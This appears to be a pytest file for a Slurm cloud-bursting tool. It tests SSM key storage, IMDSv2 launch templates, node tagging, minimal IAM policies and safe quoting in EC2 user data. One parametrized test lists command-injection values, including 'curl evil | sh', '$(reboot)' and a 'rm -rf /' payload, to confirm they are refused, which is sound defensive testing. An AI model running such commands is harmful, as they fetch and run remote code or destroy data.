"""Nodes that come up by themselves (issue 38.6), against moto: ``setup`` puts the munge key into
SSM Parameter Store and makes each pool's launch template (IMDSv2 required, hop limit 1, tags in the
metadata, user data that fetches that parameter and starts a configless slurmd under the node's
tag); the user data carries no key material and quotes or refuses what it is given; a one-node
launch names its node in TagSpecifications (no CreateTags); docs/elastic.md publishes the IAM
policies the code builds. Each moto test ends with no instance of its cluster."""
from __future__ import annotations

import base64
import json
import re
import shutil
import subprocess
from pathlib import Path

import boto3
import pytest
from moto import mock_aws

from gpuhpc.elastic.config import ElasticConfig, Pool
from gpuhpc.elastic.providers.base import TAG_CLUSTER, TAG_NODE
from gpuhpc.elastic.providers.ec2 import Ec2Provider, put_munge_key, setup, template_name
from gpuhpc.elastic.providers.userdata import controller_policy, node_policy, policies_json, user_data
from gpuhpc.errors import UserInputError

from .test_ec2_provider import FaultyEc2

REPO = Path(__file__).resolve().parents[3]
KEY = bytes(range(256)) * 4                      # a 1024-byte munge key


@pytest.fixture(scope="module")
def aws():
    with mock_aws():
        ec2 = boto3.client("ec2", region_name="us-east-1")
        ami = ec2.describe_images(Owners=["amazon"], MaxResults=5)["Images"][0]["ImageId"]
        yield ec2, boto3.client("ssm", region_name="us-east-1"), ami


def config(cluster: str, ami: str, **aws) -> ElasticConfig:
    return ElasticConfig(cluster=cluster, state_dir="/nonexistent", pools=(
        Pool("gpu", ("g1", "g2"), "aws", instance_types=("p5.48xlarge",)),
        Pool("lab", ("l1",), "local")), provider_settings={"aws": {
            "image_id": ami, "controllers": "ctl1,ctl2:6817", "instance_profile": "gpuhpc-node",
            "security_groups": ["sg-1"], **aws}})


def default_version(ec2, name: str) -> dict:
    return ec2.describe_launch_template_versions(LaunchTemplateName=name, Versions=["$Default"])[
        "LaunchTemplateVersions"][0]


def assert_none_left(ec2, cluster: str) -> None:
    left = [i for r in ec2.describe_instances(Filters=[
        {"Name": f"tag:{TAG_CLUSTER}", "Values": [cluster]},
        {"Name": "instance-state-name", "Values": ["pending", "running"]}])["Reservations"] for i in r["Instances"]]
    assert left == [], left


def test_setup_stores_the_key_in_ssm_and_the_template_requires_imdsv2_and_fetches_it(aws):
    ec2, ssm, ami = aws
    cfg = config("boot1", ami)
    made = setup(cfg, munge_key=KEY, ec2=ec2, ssm=ssm)
    param = "/gpuhpc/boot1/munge-key"
    assert made["parameter"] == param and made["templates"] == {template_name("boot1", "gpu"): "changed"}
    got = ssm.get_parameter(Name=param, WithDecryption=True)["Parameter"]
    assert got["Type"] == "SecureString" and base64.b64decode(got["Value"]) == KEY
    data = default_version(ec2, "gpuhpc-boot1-gpu")["LaunchTemplateData"]
    assert data["MetadataOptions"]["HttpTokens"] == "required"
    assert data["MetadataOptions"]["HttpPutResponseHopLimit"] == 1
    assert data["MetadataOptions"]["InstanceMetadataTags"] == "enabled"
    assert data["IamInstanceProfile"] == {"Name": "gpuhpc-node"} and data["ImageId"] == ami
    script = base64.b64decode(data["UserData"]).decode()
    fetch = [line for line in script.splitlines() if "ssm get-parameter" in line]
    assert len(fetch) == 1 and '--name "$PARAMETER"' in fetch[0] and f"PARAMETER={param}" in script
    assert "--with-decryption" in fetch[0]
    # no key material in the user data (raw, base64, hex), nor in the template at all
    blob = json.dumps(data)
    for form in (base64.b64encode(KEY).decode(), KEY.hex(), base64.b64encode(KEY[:48]).decode()):
        assert form not in script and form not in blob
    assert "--conf-server \"$CONTROLLERS\" -N \"$NODE\"" in script and "CONTROLLERS=ctl1,ctl2:6817" in script
    assert f"tags/instance/{TAG_NODE}" in script and "X-aws-ec2-metadata-token" in script
    # the local pool gets no template
    assert list(made["templates"]) == ["gpuhpc-boot1-gpu"]


def test_setup_again_changes_nothing_and_a_changed_setting_makes_a_new_default_version(aws):
    ec2, ssm, ami = aws
    setup(config("boot2", ami), ec2=ec2, ssm=ssm)
    first = default_version(ec2, "gpuhpc-boot2-gpu")["VersionNumber"]
    assert setup(config("boot2", ami), ec2=ec2, ssm=ssm)["templates"] == {"gpuhpc-boot2-gpu": "unchanged"}
    assert default_version(ec2, "gpuhpc-boot2-gpu")["VersionNumber"] == first
    setup(config("boot2", ami, controllers="ctl9"), ec2=ec2, ssm=ssm)
    now = default_version(ec2, "gpuhpc-boot2-gpu")
    assert now["VersionNumber"] == first + 1
    assert "CONTROLLERS=ctl9\n" in base64.b64decode(now["LaunchTemplateData"]["UserData"]).decode()


def test_a_pool_launch_uses_its_template_and_names_a_single_node_at_launch(aws):
    ec2, ssm, ami = aws
    cfg = config("boot3", ami)
    setup(cfg, ec2=ec2, ssm=ssm)
    faulty = FaultyEc2(ec2)
    p = Ec2Provider("boot3", faulty, managed_templates=True, sleep=lambda s: None)
    (one,) = p.launch(cfg.pools[0], ["g1"], "b3")
    two = p.launch(cfg.pools[0], ["g1", "g2"], "b3b")
    fleets = [kw for op, kw in faulty.calls if op == "create_fleet"]
    assert {f["LaunchTemplateConfigs"][0]["LaunchTemplateSpecification"]["LaunchTemplateName"] for f in fleets} == \
        {"gpuhpc-boot3-gpu"}
    tags = {t["Key"]: t["Value"] for t in fleets[0]["TagSpecifications"][0]["Tags"]}
    assert tags[TAG_NODE] == "g1" and tags[TAG_CLUSTER] == "boot3"
    tagged = [kw["Resources"] for op, kw in faulty.calls if op == "create_tags"]
    assert [one.id] not in tagged and len(tagged) == 2            # one CreateTags per node of the 2-node fleet
    assert TAG_NODE not in {t["Key"] for t in fleets[1]["TagSpecifications"][0]["Tags"]}
    described = {i["InstanceId"]: {t["Key"]: t["Value"] for t in i["Tags"]}
                 for r in ec2.describe_instances(InstanceIds=[one.id] + [i.id for i in two])["Reservations"]
                 for i in r["Instances"]}
    assert described[one.id][TAG_NODE] == "g1" and [described[i.id][TAG_NODE] for i in two] == ["g1", "g2"]
    p.terminate([one.id] + [i.id for i in two])
    assert_none_left(ec2, "boot3")


@pytest.mark.parametrize("field, value", [
    ("controllers", "ctl1; curl evil | sh"), ("controllers", "$(reboot)"), ("controllers", "ctl1 ctl2"),
    ("parameter", "/gpuhpc/c/key'; rm -rf /"), ("pool", "gpu\"x"), ("cluster", "c\n1"), ("slurmd", "slurmd"),
])
def test_user_data_refuses_what_it_cannot_quote_safely(field, value):
    args = dict(cluster="c1", pool="gpu", controllers="ctl1", parameter="/gpuhpc/c1/munge-key")
    args[field] = value
    with pytest.raises(UserInputError):
        user_data(**args)


def test_user_data_is_valid_bash_with_every_value_quoted():
    script = user_data(cluster="c1", pool="gpu-a.b", controllers="ctl1.example.org:6817,ctl2",
                       parameter="/site/c1/munge.key")
    if shutil.which("bash"):
        subprocess.run(["bash", "-n"], input=script, text=True, check=True)
    assert script.startswith("#!/bin/bash\n") and "set -euo pipefail" in script
    assert re.search(r"^PARAMETER=/site/c1/munge\.key$", script, re.M)
    assert "base64 -d > /etc/munge/munge.key.new" in script and "chmod 0400" in script
    # the spot notice watcher starts under the node's name, where the image has gpuhpc
    assert 'python3 -m gpuhpc.elastic.spotwatch --node "$NODE"' in script


def test_put_munge_key_refuses_what_is_not_a_key(aws):
    _, ssm, _ = aws
    from gpuhpc.elastic.providers.base import ProviderError

    with pytest.raises(ProviderError):
        put_munge_key(ssm, "/gpuhpc/x/munge-key", b"short")


def test_setup_needs_an_image_and_the_controllers():
    cfg = ElasticConfig(cluster="c", state_dir="/x", pools=(), provider_settings={"aws": {"image_id": "ami-1"}})
    with pytest.raises(UserInputError, match="controllers"):
        setup(cfg, ec2=object(), ssm=object())


def test_the_policies_are_minimal_and_published_as_built():
    ctl = controller_policy(cluster="c1")
    by_sid = {s["Sid"]: s for s in ctl["Statement"]}
    assert by_sid["EndOwnInstances"]["Condition"] == {"StringEquals": {f"aws:ResourceTag/{TAG_CLUSTER}": "c1"}}
    assert by_sid["LaunchTaggedInstances"]["Condition"]["StringEquals"] == {f"aws:RequestTag/{TAG_CLUSTER}": "c1"}
    assert by_sid["NameOwnInstances"]["Condition"]["ForAllValues:StringEquals"] == {"aws:TagKeys": [TAG_NODE]}
    assert by_sid["PassNodeRole"]["Resource"].endswith(":role/gpuhpc-node")
    assert all(s["Resource"] != "*" for s in ctl["Statement"] if s["Sid"] != "Read")
    (only,) = node_policy(cluster="c1")["Statement"]
    assert only["Action"] == "ssm:GetParameter" and only["Resource"].endswith(":parameter/gpuhpc/c1/munge-key")
    doc = (REPO / "docs" / "elastic.md").read_text()
    block = re.search(r"<!-- iam-policies -->\n```json\n(.*?)\n```", doc, re.S)
    assert block, "docs/elastic.md publishes the policies in a json block after <!-- iam-policies -->"
    assert json.loads(block.group(1)) == json.loads(policies_json())
